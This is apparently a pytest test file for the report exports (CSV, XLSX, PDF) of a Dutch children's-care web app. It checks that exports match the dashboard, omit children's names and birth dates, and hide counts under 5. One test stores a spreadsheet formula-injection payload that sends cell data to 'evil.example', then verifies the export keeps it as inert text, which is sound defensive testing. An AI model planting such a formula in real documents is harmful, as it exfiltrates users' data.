"""The exports for the municipality: the CSV and the XLSX open and hold the same figures as the dashboard, the
PDF renders (its first page turned into a PNG), and no export holds a child's name or date of birth; every
count under 5 is hidden."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from huiskamer.site.templating import today
from tests.factories import csrf_token, login_as
from tests.service.reports_helpers import BIRTHDAYS, NAMES, ReportWorld, add_crowd, build_world
from tests.web.reports_web_helpers import csv_rows, page_tables, xlsx_sheets

YEAR = "van=2024-01-01&tot=2024-12-31"
SCREENSHOTS = Path(__file__).resolve().parents[2] / "screenshots"  # beside the browser tests' screenshots
MONTHS_NL = (
    "januari",
    "februari",
    "maart",
    "april",
    "mei",
    "juni",
    "juli",
    "augustus",
    "september",
    "oktober",
    "november",
    "december",
)


@pytest.fixture
def world(test_settings) -> ReportWorld:
    found = build_world(test_settings, passwords=True)
    add_crowd(test_settings, found)
    return found


@pytest.fixture
def admin_client(client, test_settings, world):
    login_as(test_settings, client, world.admin)
    # The story of the year goes out with the figures.
    token = csrf_token(client, f"/rapportage?{YEAR}")
    client.post(
        "/rapportage/verhaal",
        data={"_csrf_token": token, "van": "2024-01-01", "tot": "2024-12-31", "text": "Een jaar vol samen spelen."},
    )
    return client


def personal_data_in(text: str) -> list[str]:
    """Any child's name or date of birth of the data sets, in the ways people write a date."""
    words = [*NAMES, "Menigte", "Kind0", "Kind1"]
    found = [word for word in words if word in text]
    for born in BIRTHDAYS:
        for written in (
            born.isoformat(),
            born.strftime("%d-%m-%Y"),
            f"{born.day}-{born.month}-{born.year}",
            f"{born.day} {MONTHS_NL[born.month - 1]} {born.year}",
        ):
            if written in text:
                found.append(written)
    return found


def test_the_csv_holds_the_figures_of_the_dashboard(admin_client):
    dashboard = page_tables(admin_client.get(f"/rapportage?{YEAR}").text)
    response = admin_client.get(f"/rapportage/export.csv?{YEAR}")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="rapportage-2024-01-01-2024-12-31-alle-locaties.csv"' in response.headers["content-disposition"]
    rows = csv_rows(response.content)
    by_table: dict[str, list[str]] = {}
    for row in rows:
        by_table.setdefault(row["tabel"], []).append(row["weergave"])
    titles = {
        "kerncijfers": "Kerncijfers",
        "aanmeldingen-per-bron": "Aanmeldingen per bron",
        "uitstroom": "Uitstroom per reden",
    }
    for key, title in titles.items():
        shown = [value for row in dashboard[key] for value in row[1:]]
        assert by_table[title] == shown, key
    assert any(row["tabel"] == "Verhaal" and row["weergave"] == "Een jaar vol samen spelen." for row in rows)
    # A number is a plain number in its own column: 64 referrals in 2024.
    first = next(row for row in rows if row["tabel"] == "Kerncijfers" and row["rij"] == "Aanmeldingen ontvangen")
    assert (first["waarde"], first["weergave"], first["eenheid"]) == ("64", "64", "aantal")


def test_the_xlsx_has_a_sheet_per_table_with_numbers_as_numbers(admin_client):
    page_html = admin_client.get(f"/rapportage?{YEAR}").text
    dashboard = page_tables(page_html)
    response = admin_client.get(f"/rapportage/export.xlsx?{YEAR}")
    assert response.status_code == 200
    sheets = xlsx_sheets(response.content)
    assert {
        "Over dit rapport",
        "kerncijfers",
        "aanmeldingen-per-maand",
        "bezetting",
        "uitstroom",
        "Verhalen",
        "Toelichting",
    } <= set(sheets)
    for key, rows in dashboard.items():
        if key == "verhaal":
            continue
        sheet = sheets[key]
        body = sheet[2 : 2 + len(rows)]
        assert [line[0] for line in body] == [row[0] for row in rows], key
        for line, row in zip(body, rows, strict=True):
            for cell, shown in zip(line[1:], row[1:], strict=False):
                if isinstance(cell, int | float):
                    assert _as_shown(cell, shown) == shown, (key, row, cell)
                else:
                    assert cell == shown, (key, row, cell)
    kern = {line[0]: line[1:] for line in sheets["kerncijfers"][2:9]}
    assert kern["Aanmeldingen ontvangen"][:2] == [64, 22]
    assert sheets["Verhalen"][1][2] == "Een jaar vol samen spelen."


def _as_shown(number: float, shown: str) -> str:
    """How the page shows a number from the sheet (a fraction as a percentage, days with one decimal)."""
    if shown.endswith("%"):
        return f"{number * 100:.1f}%".replace(".", ",")
    if "," in shown:
        return f"{number:.1f}".replace(".", ",")
    return str(int(number))


def test_the_xlsx_keeps_the_formats(admin_client):
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(admin_client.get(f"/rapportage/export.xlsx?{YEAR}").content))
    occupancy = book["bezetting"]
    values = [row for row in occupancy.iter_rows(min_row=3, max_row=4)]
    assert any(cell.number_format == "0.0%" for row in values for cell in row[1:] if isinstance(cell.value, float))
    assert isinstance(book["kerncijfers"]["B3"].value, int)


def test_the_pdf_renders_with_charts_and_tables(admin_client):
    import pypdfium2 as pdfium

    response = admin_client.get(f"/rapportage/export.pdf?{YEAR}")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/pdf"
    pdf = pdfium.PdfDocument(response.content)
    assert len(pdf) >= 3
    text = "".join(pdf[index].get_textpage().get_text_range() for index in range(len(pdf)))
    for words in ("Tellen én vertellen", "Kerncijfers", "Aanmeldingen per maand", "Een jaar vol samen spelen."):
        assert words in text, words
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    for index in (0, 1):
        image = pdf[index].render(scale=1.2).to_pil()
        image.save(SCREENSHOTS / f"report-pdf-page-{index + 1}.png")
        # Ink on the page: a real page, not an empty sheet.
        dark = image.convert("L").histogram()[:128]
        assert sum(dark) > 2000, index


def test_no_export_holds_a_name_or_a_date_of_birth(admin_client):
    import pypdfium2 as pdfium

    csv_text = admin_client.get(f"/rapportage/export.csv?{YEAR}").content.decode("utf-8")
    assert personal_data_in(csv_text) == []
    sheets = xlsx_sheets(admin_client.get(f"/rapportage/export.xlsx?{YEAR}").content)
    cells = " | ".join(str(cell) for rows in sheets.values() for row in rows for cell in row if cell is not None)
    assert personal_data_in(cells) == []
    pdf = pdfium.PdfDocument(admin_client.get(f"/rapportage/export.pdf?{YEAR}").content)
    pdf_text = "".join(pdf[index].get_textpage().get_text_range() for index in range(len(pdf)))
    assert personal_data_in(pdf_text) == []
    printed = admin_client.get(f"/rapportage/afdrukken?{YEAR}").text
    assert personal_data_in(printed) == []


def test_no_count_under_5_leaves_the_organisation(admin_client):
    rows = csv_rows(admin_client.get(f"/rapportage/export.csv?{YEAR}").content)
    counts = [row for row in rows if row["eenheid"] == "aantal"]
    assert counts
    for row in counts:
        if row["waarde"]:
            assert int(row["waarde"]) >= 5, row
        else:
            assert row["weergave"] in ("<5", "×", "–"), row
    # The exact view of the dashboard never reaches an export.
    rows_exact = csv_rows(admin_client.get(f"/rapportage/export.csv?{YEAR}&exact=1").content)
    assert rows_exact == rows


def test_an_export_of_an_empty_period_still_opens(admin_client):
    response = admin_client.get("/rapportage/export.xlsx?van=2031-01-01&tot=2031-01-31")
    assert response.status_code == 200
    assert xlsx_sheets(response.content)["kerncijfers"][2][0] == "Aanmeldingen ontvangen"
    assert admin_client.get("/rapportage/export.csv?van=2031-01-01&tot=2031-01-31").status_code == 200


def test_an_export_of_a_period_that_is_not_one_goes_back_to_the_dashboard_with_what_was_typed(admin_client):
    for query in ("van=2024-01-01", "van=morgen&tot=2024-12-31", "van=2024-12-31&tot=2024-01-01"):
        for route in ("export.csv", "export.xlsx", "export.pdf", "afdrukken"):
            response = admin_client.get(f"/rapportage/{route}?{query}", follow_redirects=False)
            assert response.status_code == 303, (route, query)
            assert response.headers["location"] == f"/rapportage?{query}", (route, query)
    shown = admin_client.get("/rapportage/export.csv?van=morgen&tot=2024-12-31")
    assert shown.status_code == 422 and 'value="morgen"' in shown.text and "geen geldige datum" in shown.text


def test_an_export_without_dates_is_of_this_year_as_the_dashboard(admin_client):
    year = today().year
    response = admin_client.get("/rapportage/export.csv")
    assert response.status_code == 200
    assert (
        f'filename="rapportage-{year}-01-01-{year}-12-31-alle-locaties.csv"' in response.headers["content-disposition"]
    )


def test_a_story_typed_as_a_formula_stays_text_in_every_spreadsheet(admin_client):
    formula = '=HYPERLINK("http://evil.example/?"&A1;"Klik hier")'
    token = csrf_token(admin_client, f"/rapportage?{YEAR}")
    saved = admin_client.post(
        "/rapportage/verhaal",
        data={"_csrf_token": token, "van": "2024-01-01", "tot": "2024-12-31", "text": formula},
        follow_redirects=False,
    )
    assert saved.status_code == 303
    [story] = [
        row for row in csv_rows(admin_client.get(f"/rapportage/export.csv?{YEAR}").content) if row["tabel"] == "Verhaal"
    ]
    assert story["weergave"] == "'" + formula  # a spreadsheet shows the text, and runs nothing

    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(admin_client.get(f"/rapportage/export.xlsx?{YEAR}").content))
    cell = book["Verhalen"]["C2"]
    assert cell.value == formula and cell.data_type == "s"
    assert not [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
